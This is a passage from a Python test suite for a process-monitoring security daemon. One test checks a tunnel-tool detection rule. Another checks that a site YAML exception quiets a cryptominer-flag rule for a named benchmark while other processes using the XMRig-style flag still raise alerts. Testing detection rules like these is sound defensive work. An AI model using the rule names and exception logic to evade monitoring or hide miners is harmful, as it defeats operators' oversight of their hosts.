        trainer.wait(30)
    alert = guard.wait_alert(by_pid(tunnel.pid, "tunnel-tool-syntax"))
    assert "config client.toml" in alert["reason"]
    guard.settle()
    assert guard.alerts_for(by_pid(trainer.pid)) == []


# --- site tuning reaches the running daemon ----------------------------------------

SITE_TUNING = """\
version: 1
macros:
  our_benchmark: {all: [{name: [cpu-bench]}, {user: [root]}]}
tune:
  - rule: miner-only-flags
    exceptions:
      - macro: our_benchmark
"""


def test_rules_d_tuning_applies_to_the_daemon(tmp_path: Path) -> None:
    """A rules.d file appends an exception to a shipped rule: the site's
    benchmark (same flag as XMRig) is quiet, anything else with it is not."""
    require_root()
    site = tmp_path / "50-site.yaml"
    site.write_text(SITE_TUNING)
    bench = tmp_path / "cpu-bench"
    other = tmp_path / "cpu-test"
    for path in (bench, other):
        shutil.copy("/bin/sleep", path)
    with daemon("--rules", str(site)) as tuned:
        quiet = subprocess.Popen([str(bench), "0.2", "--cpu-priority", "5"])
        loud = subprocess.Popen([str(other), "0.2", "--cpu-priority", "5"])
        quiet.wait()
        loud.wait()
        alert = tuned.wait_alert(by_pid(loud.pid, "miner-only-flags"))
        assert alert["category"] == "miner"
        tuned.settle()
        assert tuned.alerts_for(by_pid(quiet.pid)) == []
